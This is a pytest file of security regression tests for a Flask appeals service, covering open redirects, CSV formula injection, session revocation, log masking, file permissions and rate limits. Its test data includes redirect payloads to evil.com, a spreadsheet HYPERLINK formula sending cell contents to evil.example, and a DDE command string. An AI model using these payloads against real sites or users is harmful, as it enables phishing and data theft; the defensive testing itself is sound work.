"""The security findings of "Sound footing" (item 7), each pinned by a test that failed before its fix."""
import csv
import datetime
import importlib
import io
import json
import multiprocessing
import os
import runpy
import stat
import subprocess
import time
import uuid
from html import escape
from pathlib import Path
from urllib.parse import unquote

import pytest
from conftest import add_user, appeal_fields, create_appeal, csrf_from, login, make_app, submit
from gunicorn.config import Config
from limits.storage import storage_from_string
from peewee import SqliteDatabase

from db import database, open_database
from db.models import Appeal, AuditLog, User
from views.exports import csv_response, neutralise
from web import auth, config
from web.security import limiter

ROOT = Path(__file__).resolve().parent.parent

EVIL_NEXTS = ["/%09/evil.com", "/%0A/evil.com", "/%0D%0A/evil.com", "/\\evil.com", "/%5Cevil.com",
              "//evil.com", "/%2F/evil.com", "https://evil.com/", "javascript:alert(1)", "/%E2%80%8B/evil.com",
              "/%0A/x"]


# ---- 1. open redirect ----------------------------------------------------------------

@pytest.mark.parametrize("target", EVIL_NEXTS)
def test_language_switch_never_leaves_the_site(client, db, target):
    r = client.get(f"/staff/lang/en?next={target}")
    assert r.status_code == 303
    assert r.headers["Location"] == "/staff/"


@pytest.mark.parametrize("target", EVIL_NEXTS)
def test_sign_in_never_leaves_the_site(app, db, target):
    add_user("admin", "admin")
    c = app.test_client()
    html = c.get(f"/staff/login?next={target}").get_data(as_text=True)
    r = c.post("/staff/login", data={"csrf_token": csrf_from(html), "login": "admin",
                                     "password": "correct-horse-battery", "next": unquote(target)})
    assert r.status_code == 303
    assert r.headers["Location"] == "/staff/"


def test_a_local_next_is_kept(client, db):
    add_user("admin", "admin")
    r = client.get("/staff/lang/ru?next=/staff/appeals/MG-ABCDEFGH%3Fx%3D1")
    assert r.headers["Location"] == "/staff/appeals/MG-ABCDEFGH?x=1"
    html = client.get("/staff/login").get_data(as_text=True)
    r = client.post("/staff/login", data={"csrf_token": csrf_from(html), "login": "admin",
                                          "password": "correct-horse-battery", "next": "/staff/audit?page=2"})
    assert r.headers["Location"] == "/staff/audit?page=2"


# ---- 2. formula injection in the CSV export ------------------------------------------

def exported(staff):
    body = staff.client("admin").get("/staff/export/appeals.csv").get_data(as_text=True)
    return {row["ref"]: row for row in csv.DictReader(io.StringIO(body[1:]))}


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_export_never_hands_excel_a_formula(client, staff, db, start):
    text = start + 'HYPERLINK("http://evil.example/?"&A1, "су жоқ")'
    ref, _ = create_appeal(client, text=text)
    plain, _ = create_appeal(client, text="Су жоқ = үш күн, көмектесіңіз")
    rows = exported(staff)
    assert rows[ref]["text"] == "'" + text
    assert rows[plain]["text"] == "Су жоқ = үш күн, көмектесіңіз"


def test_export_neutralises_every_text_cell_but_keeps_codes_exact(app, client, staff, db):
    assert [neutralise(v) for v in ("\tx", "\rx", "x=1", 5, "")] == ["'\tx", "'\rx", "x=1", 5, ""]
    # A login is text too: an outreach worker's name reaches the export with each appeal collected.
    add_user("=1+1", "outreach")
    worker = app.test_client()
    assert login(worker, "=1+1").status_code == 303
    fields = appeal_fields()
    assert submit(worker, "/kk/appeals/new", "/kk/appeals", fields).status_code == 303
    appeal = Appeal.get(Appeal.submission_key == fields["submission_key"])
    row = exported(staff)[appeal.ref]
    assert row["worker"] == "'=1+1"
    assert row["submission_key"] == fields["submission_key"] and row["category"] == "water"
    assert row["source"] == "outreach" and row["settlement"] == "akshymyrau"
    assert row["due"] == appeal.due_on.isoformat()
    assert row["received_at"] == appeal.received_at.replace(microsecond=0).isoformat() + "Z"
    with app.test_request_context():
        body = csv_response("x.csv", ["code", "note"], [{"code": "-1", "note": "-1"}],
                            exact={"code"}).get_data(as_text=True)
    assert body.splitlines()[1] == "-1,'-1"


# ---- 6. sync: only JSON, and the paper form only from outreach -----------------------

def sync_body(**fields):
    item = {"key": str(uuid.uuid4()), "kind": "appeal",
            "fields": {"category": "water", "settlement": "akshymyrau", "text": "Ауылда су жоқ, көмектесіңіз",
                       "name": "Сауле", "consent": True, **fields}}
    return {"device": str(uuid.uuid4()), "items": [item]}


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded",
                                          "multipart/form-data; boundary=x", None])
def test_sync_takes_only_json_so_another_site_cannot_post_from_a_browser(client, db, content_type):
    headers = {"Content-Type": content_type} if content_type else {}
    r = client.post("/api/v1/sync", data=json.dumps(sync_body()), headers=headers)
    assert r.status_code == 415
    assert "error" in r.get_json()
    assert Appeal.select().count() == 0


def test_sync_json_with_a_charset_is_fine(client, db):
    r = client.post("/api/v1/sync", data=json.dumps(sync_body()).encode(),
                    headers={"Content-Type": "application/json; charset=utf-8"})
    assert r.status_code == 200 and r.get_json()["results"][0]["status"] == "created"


def test_only_an_outreach_worker_records_a_paper_consent_form(client, staff, db):
    anonymous = client.post("/api/v1/sync", json=sync_body(paper_form="PF-123"))
    assert anonymous.get_json()["results"][0]["status"] == "created"
    assert Appeal.get(Appeal.ref == anonymous.get_json()["results"][0]["ref"]).consent_paper_form is None
    # Not even a too-long number refuses the citizen's appeal: the field is simply not theirs.
    assert client.post("/api/v1/sync", json=sync_body(paper_form="x" * 99)).get_json()[
        "results"][0]["status"] == "created"
    _, token = auth.issue_device_token(staff["outreach"], "village phone")
    r = client.post("/api/v1/sync", json=sync_body(paper_form="PF-124"), headers={"Authorization": f"Bearer {token}"})
    assert Appeal.get(Appeal.ref == r.get_json()["results"][0]["ref"]).consent_paper_form == "PF-124"


def test_a_phone_names_itself_only_by_a_uuid(client, db):
    body = sync_body()
    body["device"] = "=cmd|' /C calc'!A0"
    r = client.post("/api/v1/sync", json=body)
    assert r.status_code == 400 and "UUID" in r.get_json()["error"]


# ---- 4. sessions end on the server ---------------------------------------------------

def copy_session(app, source):
    thief = app.test_client()
    thief.set_cookie("session", source.get_cookie("session").value)
    return thief


def test_a_cookie_copied_before_sign_out_opens_nothing_after(app, staff, db):
    moderator = staff.client("moderator")
    thief = copy_session(app, moderator)
    assert thief.get("/staff/").status_code == 200  # the copy works while the session lives
    token = csrf_from(moderator.get("/staff/").get_data(as_text=True))
    assert moderator.post("/staff/logout", data={"csrf_token": token}).status_code == 303
    r = thief.get("/staff/")
    assert r.status_code == 302 and "/staff/login" in r.headers["Location"]
    assert staff.client("moderator").get("/staff/").status_code == 200  # signing in again works


def test_a_new_password_ends_the_sessions_made_with_the_old_one(app, runner, staff, db):
    officer = staff.client("officer")
    assert officer.get("/staff/").status_code == 200
    r = runner.invoke(args=["users", "add", "officer", "--role", "officer",
                            "--department", "energy-housing-utilities"], input="a-new-long-password\n")
    assert r.exit_code == 0, r.output
    assert officer.get("/staff/").status_code == 302
    assert login(app.test_client(), "officer", "a-new-long-password").status_code == 303


def test_a_session_from_before_epochs_is_refused_and_the_next_sign_in_works(app, staff, db):
    admin = staff.client("admin")
    User.update(session_epoch="").where(User.login == "admin").execute()  # as migration 0003 leaves a user
    assert admin.get("/staff/").status_code == 302
    assert staff.client("admin").get("/staff/devices").status_code == 200


def test_migration_0003_adds_the_epoch_to_an_old_user_table(tmp_path):
    old = SqliteDatabase(str(tmp_path / "old.sqlite3"))
    old.execute_sql('CREATE TABLE "user" (id INTEGER PRIMARY KEY, login VARCHAR(255) NOT NULL)')
    old.execute_sql("INSERT INTO \"user\" (login) VALUES ('aigul')")
    migration = importlib.import_module("db.migrations.0003_user_session_epoch")
    migration.up(old)
    assert old.execute_sql('SELECT login, session_epoch FROM "user"').fetchall() == [("aigul", "")]


@pytest.mark.parametrize("environment, secure", [
    ({}, True), ({"DEMO": "0"}, True), ({"DEMO": "1"}, False), ({"FLASK_DEBUG": "1"}, False),
    ({"SESSION_COOKIE_SECURE": "0"}, False), ({"DEMO": "1", "SESSION_COOKIE_SECURE": "1"}, True)])
def test_session_cookies_are_https_only_unless_this_is_a_demo_or_a_debug_run(monkeypatch, environment, secure):
    for name in ("DEMO", "FLASK_DEBUG", "SESSION_COOKIE_SECURE"):
        monkeypatch.delenv(name, raising=False)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("SECRET_KEY", "x")
    monkeypatch.setenv("QATYSU_PEPPER", "y")
    assert config.from_environment()["SESSION_COOKIE_SECURE"] is secure


def test_make_run_serves_plain_http_on_the_laptop():
    commands = subprocess.run(["make", "-n", "-s", "run", "DEMO=0"], cwd=ROOT, capture_output=True, text=True,
                              env={"PATH": "/usr/bin:/bin"}).stdout
    serve = [line for line in commands.splitlines() if "gunicorn" in line]
    assert serve and "SESSION_COOKIE_SECURE=${SESSION_COOKIE_SECURE:-0}" in serve[0]


# ---- 5. private links stay out of logs; the database file is private ------------------

def test_the_access_log_masks_the_secret_of_a_private_link(capsys):
    settings = runpy.run_path(str(ROOT / "gunicorn.conf.py"))
    cfg = Config()
    cfg.set("logger_class", settings["logger_class"])
    cfg.set("accesslog", "-")
    logger = cfg.logger_class(cfg)
    secret = "0123456789abcdef01234567"
    environ = {"REQUEST_METHOD": "POST", "RAW_URI": f"/kk/track/MG-ABCDEFGH/{secret}/rating?x=1",
               "PATH_INFO": f"/kk/track/MG-ABCDEFGH/{secret}/rating", "QUERY_STRING": "x=1",
               "SERVER_PROTOCOL": "HTTP/1.1", "REMOTE_ADDR": "10.0.0.1",
               "HTTP_REFERER": f"https://qatysu.kz/ru/track/MG-ABCDEFGH/{secret}?sent=1"}

    class Response:
        status, sent, headers = "303 See Other", 0, []

    logger.access(Response(), [("Referer", environ["HTTP_REFERER"])], environ, datetime.timedelta(0))
    line = capsys.readouterr().out
    assert "/kk/track/MG-ABCDEFGH/[secret]/rating?x=1" in line
    assert "/ru/track/MG-ABCDEFGH/[secret]?sent=1" in line
    assert secret not in line


def test_the_application_log_masks_it_too(app, caplog):
    secret = "0123456789abcdef01234567"

    @app.get("/<lang>/track/<ref>/<secret>/boom")
    def boom(lang, ref, secret):
        raise RuntimeError("boom")

    app.config["PROPAGATE_EXCEPTIONS"] = False
    app.testing = False
    with caplog.at_level("ERROR"):
        assert app.test_client().get(f"/kk/track/MG-ABCDEFGH/{secret}/boom").status_code == 500
    assert "MG-ABCDEFGH/[secret]/boom" in caplog.text and secret not in caplog.text


def test_a_new_sqlite_database_and_its_folder_are_private(tmp_path):
    previous, umask = database.obj, os.umask(0o022)  # the usual umask, which leaves files world-readable
    try:
        db = open_database(f"sqlite:///{tmp_path}/var/qatysu.sqlite3")
        db.connect()
        db.execute_sql("CREATE TABLE t (x)")
        db.execute_sql("INSERT INTO t VALUES (1)")
        for name in ("qatysu.sqlite3", "qatysu.sqlite3-wal"):
            assert stat.S_IMODE((tmp_path / "var" / name).stat().st_mode) == 0o600, name
        assert stat.S_IMODE((tmp_path / "var").stat().st_mode) == 0o700
        db.close()
    finally:
        os.umask(umask)
        database.initialize(previous)


# ---- 3. rate limits: shared by the workers, by the real address, right keys; body limits ----

def limited(app, **config):
    """Switch limits on for this app, with these limits, from zero."""
    app.config.update(RATELIMIT_ENABLED=True, **config)
    limiter.init_app(app)
    limiter.reset()
    return limiter


def _hit_many(uri, count):
    storage = storage_from_string(uri)
    for _ in range(count):
        storage.incr("LIMITER/addr:10.0.0.1/login", 60)


def test_the_counters_are_shared_by_worker_processes(tmp_path):
    uri = f"sqlite:///{tmp_path}/ratelimits.sqlite3"
    workers = [multiprocessing.get_context("fork").Process(target=_hit_many, args=(uri, 100)) for _ in range(3)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(30)
        assert worker.exitcode == 0
    storage = storage_from_string(uri)
    assert storage.get("LIMITER/addr:10.0.0.1/login") == 300
    assert 58 < storage.get_expiry("LIMITER/addr:10.0.0.1/login") - __import__("time").time() <= 60


def test_a_window_that_ended_starts_again(tmp_path):
    storage = storage_from_string(f"sqlite:///{tmp_path}/r.sqlite3")
    assert [storage.incr("k", 1) for _ in range(3)] == [1, 2, 3]
    time.sleep(1.05)
    assert storage.get("k") == 0 and storage.incr("k", 1) == 1
    storage.clear("k")
    assert storage.get("k") == 0 and storage.check()


def test_by_default_limits_are_counted_in_a_file_every_worker_shares(monkeypatch):
    monkeypatch.delenv("RATELIMIT_STORAGE_URI", raising=False)
    uri = config.from_environment()["RATELIMIT_STORAGE_URI"]
    assert uri == f"sqlite:///{config.VAR / 'ratelimits.sqlite3'}"


def failed_login(client, **headers):
    html = client.get("/staff/login").get_data(as_text=True)
    return client.post("/staff/login", data={"csrf_token": csrf_from(html), "login": "nobody",
                                             "password": "wrong-password"}, headers=headers).status_code


def test_a_second_worker_sees_the_first_ones_count(_database, db):
    url, tmp = _database
    # Two create_app() with one configuration, as two gunicorn workers make them.
    shared = {"RATELIMIT_ENABLED": True, "RATELIMIT_STORAGE_URI": f"sqlite:///{tmp}/ratelimits.sqlite3"}
    first, second = make_app(url, tmp, **shared), make_app(url, tmp, **shared)
    limiter.init_app(first)
    limiter.reset()
    assert [failed_login(first.test_client()) for _ in range(10)] == [401] * 10
    limiter.init_app(second)  # its own storage object, as in another process
    assert failed_login(second.test_client()) == 429
    limiter.reset()


def test_x_forwarded_for_is_ignored_unless_proxies_are_configured(app, db):
    limited(app)
    c = app.test_client()
    # Ten tries, each claiming another address: without a trusted proxy they are all one client.
    codes = [failed_login(c, **{"X-Forwarded-For": f"203.0.113.{i}"}) for i in range(11)]
    assert codes == [401] * 10 + [429]
    assert {a.address for a in AuditLog.select()} == {"127.0.0.1"}
    limiter.reset()


def test_behind_one_trusted_proxy_the_real_address_counts(_database, db):
    url, tmp = _database
    app = make_app(url, tmp, TRUSTED_PROXIES=1)
    limited(app)
    c = app.test_client()
    # The proxy appends the address it saw; what the client wrote before it is not believed.
    codes = [failed_login(c, **{"X-Forwarded-For": f"6.6.6.6, 203.0.113.{i % 2}"}) for i in range(20)]
    assert codes == [401] * 20
    assert {a.address for a in AuditLog.select()} == {"203.0.113.0", "203.0.113.1"}
    assert [failed_login(c, **{"X-Forwarded-For": f"10.1.1.{i}, 203.0.113.1"}) for i in range(2)] == [429, 429]
    limiter.reset()


def test_trusted_proxies_is_read_from_the_environment(monkeypatch):
    monkeypatch.setenv("QATYSU_TRUSTED_PROXIES", "2")
    assert config.from_environment()["TRUSTED_PROXIES"] == 2
    monkeypatch.delenv("QATYSU_TRUSTED_PROXIES")
    assert config.from_environment()["TRUSTED_PROXIES"] == 0
    monkeypatch.setenv("QATYSU_TRUSTED_PROXIES", "yes")
    with pytest.raises(ValueError):
        config.from_environment()


def test_an_ipv6_client_counts_by_its_64(app, db):
    limited(app, PUBLIC_POST_LIMIT="2 per minute")

    def post(address):
        c = app.test_client()
        c.environ_base["REMOTE_ADDR"] = address
        return submit(c, "/kk/appeals/new", "/kk/appeals", appeal_fields()).status_code

    assert [post(f"2001:db8:0:7::{i}") for i in (1, 2, 3)] == [303, 303, 429]
    assert post("2001:db8:0:8::1") == 303
    limiter.reset()


def test_an_outreach_worker_at_a_meeting_is_never_stopped_by_the_public_limit(app, staff, db):
    limited(app, PUBLIC_POST_LIMIT="2 per minute")
    worker = staff.client("outreach")
    assert [submit(worker, "/kk/appeals/new", "/kk/appeals", appeal_fields()).status_code
            for _ in range(4)] == [303] * 4
    resident = app.test_client()  # the same address, nobody signed in
    assert [submit(resident, "/kk/appeals/new", "/kk/appeals", appeal_fields()).status_code
            for _ in range(3)] == [303, 303, 429]
    limiter.reset()


def test_an_anonymous_upload_gets_the_ordinary_size_limit(app, staff, db):
    big = json.dumps({"device": str(uuid.uuid4()), "items": [], "pad": "x" * (3 * 1024 * 1024)}).encode()
    r = app.test_client().post("/staff/upload", data={"queue": (io.BytesIO(big), "q.json")},
                               content_type="multipart/form-data")
    assert r.status_code == 413
    worker = staff.client("outreach")
    token = csrf_from(worker.get("/staff/outreach").get_data(as_text=True))
    r = worker.post("/staff/upload", data={"csrf_token": token, "queue": (io.BytesIO(big), "q.json")},
                    content_type="multipart/form-data")
    assert r.status_code == 200  # the signed-in worker's large file is read
    officer = staff.client("officer")  # allowed too; a signed-in admin-only page would not raise it
    token = csrf_from(officer.get("/staff/").get_data(as_text=True))
    assert officer.post("/staff/upload", data={"csrf_token": token, "queue": (io.BytesIO(big), "q.json")},
                        content_type="multipart/form-data").status_code == 200


def test_gunicorn_warns_when_each_worker_would_count_alone(monkeypatch):
    path = str(ROOT / "gunicorn.conf.py")
    warnings = []

    class Server:
        class log:
            warning = staticmethod(lambda message, *args: warnings.append(message % args))

    monkeypatch.setenv("RATELIMIT_STORAGE_URI", "memory://")
    monkeypatch.setenv("WEB_CONCURRENCY", "2")
    runpy.run_path(path)["on_starting"](Server)
    assert warnings and "memory://" in warnings[0]
    warnings.clear()
    monkeypatch.delenv("RATELIMIT_STORAGE_URI")
    runpy.run_path(path)["on_starting"](Server)
    assert warnings == []


# ---- 7. an expired session never loses an appeal's text ------------------------------

@pytest.mark.parametrize("lang, words", [("kk", "бет тым ұзақ ашық тұрды"),
                                         ("ru", "страница была открыта слишком долго"),
                                         ("en", "the page was open too long")])
def test_an_appeal_posted_after_its_session_ended_comes_back_with_its_text(app, db, lang, words):
    phone = app.test_client()
    stale = csrf_from(phone.get(f"/{lang}/appeals/new").get_data(as_text=True))
    phone.delete_cookie("session")  # the browser was closed: a session cookie does not outlive it
    assert phone.get_cookie("session") is None
    fields = appeal_fields(text="Ауылда үш күннен бері ауыз су жоқ. Бала-шағамен қиналып отырмыз.")
    r = phone.post(f"/{lang}/appeals", data={"csrf_token": stale, **fields})
    assert r.status_code == 400
    html = r.get_data(as_text=True)
    assert escape(fields["text"], quote=False) in html and escape(fields["name"]) in html
    assert f'value="{fields["submission_key"]}"' in html and words in html
    assert Appeal.select().count() == 0
    fresh = csrf_from(html)
    assert fresh != stale and phone.get_cookie("session") is not None
    again = phone.post(f"/{lang}/appeals", data={**fields, "csrf_token": fresh})
    assert again.status_code == 303
    assert Appeal.get(Appeal.submission_key == fields["submission_key"]).text == fields["text"]


def test_a_post_with_no_token_and_no_cookie_is_kept_too(app, db):
    fields = appeal_fields(text="Жол бұзылған, мектепке бару қиын")
    r = app.test_client().post("/kk/appeals", data=fields)
    assert r.status_code == 400 and fields["text"] in r.get_data(as_text=True)


def test_other_forms_still_get_the_plain_400_page(client, db):
    r = client.post("/staff/login", data={"login": "x", "password": "y"})
    assert r.status_code == 400 and "<html" in r.get_data(as_text=True)
    r = client.post("/kk/track/MG-ABCDEFGH/nope/rating", data={"rating": "solved"})
    assert r.status_code == 400


def test_an_appeal_refused_by_the_rate_limit_comes_back_with_its_text(app, db):
    limited(app, PUBLIC_POST_LIMIT="1 per minute")
    neighbour, resident = app.test_client(), app.test_client()  # one village address
    assert submit(neighbour, "/ru/appeals/new", "/ru/appeals", appeal_fields()).status_code == 303
    fields = appeal_fields(text="Во дворе школы третий день течёт труба, дети ходят по воде")
    r = submit(resident, "/ru/appeals/new", "/ru/appeals", fields)
    assert r.status_code == 429 and "Retry-After" in r.headers
    html = r.get_data(as_text=True)
    assert escape(fields["text"], quote=False) in html and "слишком много обращений" in html
    assert f'value="{fields["submission_key"]}"' in html and csrf_from(html)
    assert Appeal.select().count() == 1
    # Elsewhere a 429 is still the plain page, or JSON for the APIs.
    limited(app, LOOKUP_LIMIT="1 per minute")
    neighbour.get("/kk/appeals/lookup?ref=MG-X")
    r = neighbour.get("/kk/appeals/lookup?ref=MG-X")
    assert r.status_code == 429 and "<form" not in r.get_data(as_text=True)
    limiter.reset()


def test_session_cookies_are_secure_except_to_a_browser_on_this_machine_over_http(_database):
    from conftest import make_app
    url, tmp = _database
    app = make_app(url, tmp, SESSION_COOKIE_SECURE=True)
    for host, secure in (("qatysu.kz", True), ("127.0.0.1:8000", False), ("localhost", False),
                         ("127.0.0.1.evil.example", True)):
        client = app.test_client()
        r = client.get("/staff/login", headers={"Host": host})
        cookies = [c for c in r.headers.getlist("Set-Cookie") if c.startswith("session=")]
        assert cookies and (("Secure" in cookies[0]) is secure), (host, cookies)
    r = app.test_client().get("/staff/login", base_url="https://127.0.0.1")
    assert "Secure" in next(c for c in r.headers.getlist("Set-Cookie") if c.startswith("session="))
